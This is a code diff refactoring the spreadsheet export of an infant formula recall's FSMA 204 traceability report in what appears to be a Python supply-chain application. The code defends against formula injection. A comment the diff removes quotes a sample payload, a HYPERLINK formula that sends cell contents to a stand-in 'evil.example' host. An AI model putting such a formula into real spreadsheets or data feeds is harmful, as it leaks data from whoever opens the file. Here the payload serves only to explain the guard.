@@ -1,4 +1,9 @@
-"""The recall report: what quality staff hand to the regulator and to the sites that must act.
+"""The recall's sortable traceability spreadsheet: every affected lot and every movement of it.
+
+Not the infant formula recall report: FSMA 204's Food Traceability List does not include infant
+formula, so this is the traceability data in FSMA 204's sortable-spreadsheet form, kept because
+regulators and partners read it that way. The infant formula recall's own reports (21 CFR 107.240
+written and status reports, 召回计划 / 召回总结报告, the retail notice) are ``documents.py``.
 
 One row per affected lot and movement, with the key data elements of the FDA FSMA 204 model
 (21 CFR part 1 subpart S): a *transformation* row per lot (where and when it was made, how much)
@@ -9,10 +14,10 @@ no contact data in clear: the report gives counts and says they are reached thro
 (the recall banner on their next scan of the pack).
 
 Three forms of the same ``RecallReport``: JSON, CSV (the rows; UTF-8 with BOM so spreadsheet
-programs read Chinese site names) and XLSX (the FDA's "electronic sortable spreadsheet": header
+programs read Chinese site names) and XLSX (FSMA 204's "electronic sortable spreadsheet": header
 row, autofilter, frozen header, numbers and dates as typed cells; sheets for rows, sites, summary).
 Everything is read per set of lots (bound as one parameter), never per item, so a large recall costs
-a few queries; the XLSX is streamed (openpyxl write-only).
+a few queries; the XLSX is written row by row (``cradletrace.spreadsheet``, XlsxWriter).
 """
 
 from __future__ import annotations
@@ -20,7 +25,6 @@ from __future__ import annotations
 import csv
 import io
 import json
-from collections.abc import Sequence
 from dataclasses import dataclass
 from datetime import UTC, date, datetime
 from typing import Any
@@ -29,6 +33,7 @@ from sqlalchemy import case, func
 from sqlalchemy import select as select_columns
 from sqlmodel import Session, col, select
 
+from cradletrace import spreadsheet
 from cradletrace.recall.genealogy import id_set
 from cradletrace.recall.recalls import RecallView, get_recall
 from cradletrace.store.models import EventRow, Item, Lot, RecallLot, ScanRecord, Shipment
@@ -43,7 +48,7 @@ CONSUMERS_NOTE = (
 FORMATS = {
     "json": "application/json",
     "csv": "text/csv; charset=utf-8",
-    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
+    "xlsx": spreadsheet.CONTENT_TYPE,
 }
 
 # (key, header, kind): kind says how the XLSX cell is typed (str, num, date, datetime).
@@ -118,26 +123,17 @@ class RecallReport:
         return ("\ufeff" + out.getvalue()).encode("utf-8")
 
     def xlsx_bytes(self) -> bytes:
-        """Streamed (openpyxl write-only): a farm-wide recall's 16 000 rows took 3-5 s in normal mode,
-        which builds every cell as an object first. Each sheet's widths, frozen header and filter
-        are declared before its rows stream out (see ``_table``)."""
-        from openpyxl import Workbook
-
-        wb = Workbook(write_only=True)
-        _table(wb.create_sheet("Traceability"), COLUMNS, self.rows)
-        _table(wb.create_sheet("Sites to notify"), SITE_COLUMNS, self.sites)
-        summary = wb.create_sheet("Recall")
-        summary.column_dimensions["A"].width = 40
-        summary.column_dimensions["B"].width = 80
+        """Three sheets (rows, sites, the recall), written by ``spreadsheet.xlsx_bytes`` (XlsxWriter,
+        constant memory): a farm-wide recall's 16 000 rows in a few times its CSV's time."""
         v = self.recall.to_json()
         clock = v["clock"]
-        for key, value in (
+        summary = (
             ("Recall", v["id"]),
             ("Reason", v["reason"]),
             ("Class", v["severity"]),
             ("Status", v["status"]),
             ("Started by", v["started_by"]),
-            ("Started at (UTC)", _naive(self.recall.recall.started_at)),
+            ("Started at (UTC)", self.recall.recall.started_at),
             ("Trigger", v["trigger_event_id"] if v["trigger_event_id"] is not None else v["trigger_text"]),
             ("Seconds from trigger to located", clock["to_located_s"]),
             ("Seconds from trigger to started", clock["to_started_s"]),
@@ -151,19 +147,15 @@ class RecallReport:
             ("Consumers: scans with consent (opted in)", self.consumers["opted_in"]),
             ("How consumers are reached", self.consumers["how"]),
             ("Standard", STANDARD),
-            ("Generated at (UTC)", _naive(self.generated_at)),
-        ):
-            summary.append(
-                [
-                    key,
-                    _formatted(summary, value, NUMBER_FORMATS["datetime"])
-                    if isinstance(value, datetime)
-                    else _text_cell(summary, value),
-                ]
+            ("Generated at (UTC)", self.generated_at),
+        )
+        return spreadsheet.xlsx_bytes(
+            (
+                spreadsheet.Table("Traceability", COLUMNS, self.rows),
+                spreadsheet.Table("Sites to notify", SITE_COLUMNS, self.sites),
+                spreadsheet.Pairs("Recall", summary),
             )
-        buf = io.BytesIO()
-        wb.save(buf)
-        return buf.getvalue()
+        )
 
     def render(self, fmt: str) -> bytes:
         if fmt == "json":
@@ -178,78 +170,12 @@ class RecallReport:
         return f"recall-{self.recall.recall.id}.{fmt}"
 
 
-NUMBER_FORMATS = {"date": "yyyy-mm-dd", "datetime": "yyyy-mm-dd hh:mm:ss"}
-
-
-def _table(ws: Any, columns: Sequence[tuple[str, str, str]], rows: Sequence[dict[str, Any]]) -> None:
-    """Header row, typed cells, autofilter over the whole table, header frozen.
-
-    ``ws`` is a write-only sheet: column widths and the frozen pane go into the sheet's head, so
-    they are set before the first row; the filter is written after the rows (set here too).
-    Dates carry their number format on the cell itself (write-only has no column formats)."""
-    from openpyxl.utils import get_column_letter
-
-    for i, (_, header, _) in enumerate(columns, start=1):
-        ws.column_dimensions[get_column_letter(i)].width = max(12, min(40, len(header) + 2))
-    ws.freeze_panes = "A2"
-    ws.auto_filter.ref = f"A1:{get_column_letter(len(columns))}{max(1, len(rows) + 1)}"
-    ws.append([h for _, h, _ in columns])
-    typed = [(key, kind, NUMBER_FORMATS.get(kind)) for key, _, kind in columns]
-    for r in rows:
-        ws.append(
-            [
-                _text_cell(ws, _cell(r[key], kind))
-                if fmt is None or r[key] is None
-                else _formatted(ws, _cell(r[key], kind), fmt)
-                for key, kind, fmt in typed
-            ]
-        )
-
-
-def _formatted(ws: Any, value: Any, number_format: str) -> Any:
-    from openpyxl.cell import WriteOnlyCell
-
-    cell = WriteOnlyCell(ws, value)
-    cell.number_format = number_format
-    return cell
-
-
-# Text that a spreadsheet program would read as a formula (OWASP "CSV injection"): a supplier's site
-# name ``=HYPERLINK("https://evil.example/?"&A1,"open")`` must stay the text it is.
-FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
-
-
-def _text_cell(ws: Any, value: Any) -> Any:
-    """``value`` as it is, or, when it is text a spreadsheet would evaluate, a cell typed as text
-    (data type string, quote prefix): shown as written, never a formula. Numbers stay numbers."""
-    if not (isinstance(value, str) and value.startswith(FORMULA_STARTS)):
-        return value
-    from openpyxl.cell import WriteOnlyCell
-
-    cell = WriteOnlyCell(ws, value)
-    cell.data_type = "s"
-    cell.quotePrefix = True
-    return cell
+FORMULA_STARTS = spreadsheet.FORMULA_STARTS
 
 
 def _csv_text(value: Any) -> Any:
     """The usual defence for CSV, which has no cell types: a leading apostrophe on such text."""
     return "'" + value if isinstance(value, str) and value.startswith(FORMULA_STARTS) else value
-
-
-def _cell(value: Any, kind: str) -> Any:
-    if value is None:
-        return None
-    if kind == "datetime":
-        return _naive(datetime.fromisoformat(value) if isinstance(value, str) else value)
-    if kind == "date":
-        return date.fromisoformat(value) if isinstance(value, str) else value
-    return value
-
-
-def _naive(t: datetime) -> datetime:
-    """UTC without tzinfo: spreadsheets have no time zones (headers say UTC)."""
-    return t.astimezone(UTC).replace(tzinfo=None)
 
 
 def _plain_value(v: Any) -> Any:
